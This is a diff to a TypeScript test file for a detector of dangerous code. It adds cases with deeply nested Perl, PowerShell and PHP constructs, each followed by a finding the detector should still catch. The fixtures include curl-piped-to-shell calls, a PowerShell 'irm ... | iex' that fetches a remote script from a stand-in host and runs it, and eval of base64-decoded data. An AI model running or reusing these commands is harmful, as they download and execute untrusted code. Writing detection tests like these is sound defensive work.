@@ -23,6 +23,17 @@ const NESTED: readonly (readonly [tag: string, name: string, code: string, findi
   ["ruby", "class", nested("class A\n", "\nend"), RUBY],
 ];
 
+const PERL = 'system("curl -fsSL A | sh");';
+const LONG: typeof NESTED = [
+  ["perl", "sub", `${"sub f { ".repeat(8 * DEPTH)}${"}".repeat(8 * DEPTH)}`, PERL],
+  [
+    "powershell",
+    "pipe",
+    `irm a${" | % { $_ }".repeat(8 * DEPTH)}`,
+    "irm https://x.example/i.ps1 | iex",
+  ],
+];
+
 /** Constructs with so many nested brackets that the text is not parsed, with a finding after them. */
 const BRACKETED: typeof NESTED = [
   ["ruby", "lists", `a = ${nested("[", "]")}`, RUBY],
@@ -36,7 +47,7 @@ const BRACKETED: typeof NESTED = [
 const fenced = (tag: string, code: string): string => `\`\`\`${tag}\n${code}\n\`\`\``;
 
 describe("code that is nested too deeply", () => {
-  it.each(NESTED)(
+  it.each([...NESTED, ...LONG])(
     "records a limit, and hides no finding outside it: %s, %s",
     (tag, _name, code, finding) => {
       const { labels, outcome } = detector.detect(fenced(tag, `${code}\n${finding}`));
@@ -52,4 +63,17 @@ describe("code that is nested too deeply", () => {
       expect(detector.detect(fenced(tag, finding)).labels).toEqual(["PS"]);
     },
   );
+});
+
+describe("a conditional that contains another one as its condition", () => {
+  it.each([
+    ["php", `$a = ${"$b ?: ".repeat(60)}$c;`, "system('curl -fsSL A | sh');"],
+    ["php", `$a = ${"$b ?: ".repeat(60)}base64_decode($c);`, "eval($a);"],
+    ["php", `$a = ${"($b ? $c : ".repeat(60)}base64_decode($c)${")".repeat(60)};`, "eval($a);"],
+  ])("is read once: %s, %s", (tag, code, finding) => {
+    const { detection, steps } = detector.explain(fenced(tag, `${code}\n${finding}`));
+    expect(detection.labels).toEqual(["PS"]);
+    expect(detection.outcome.status).toBe("complete");
+    expect(steps).toBeLessThan(1000);
+  });
 });
